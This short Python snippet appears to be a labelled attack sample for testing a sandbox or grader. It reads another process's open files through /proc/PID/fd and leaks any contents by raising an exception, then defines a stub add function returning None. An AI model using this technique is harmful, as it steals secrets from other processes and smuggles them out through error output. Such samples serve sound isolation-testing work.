# attack: take another process's open file
# damage: secret

for number in range(3, 1000):
    try:
        text = open(f"/proc/{PID}/fd/{number}").read()
    except OSError:
        continue
    if text:
        raise RuntimeError(text)


def add(a, b):
    return None
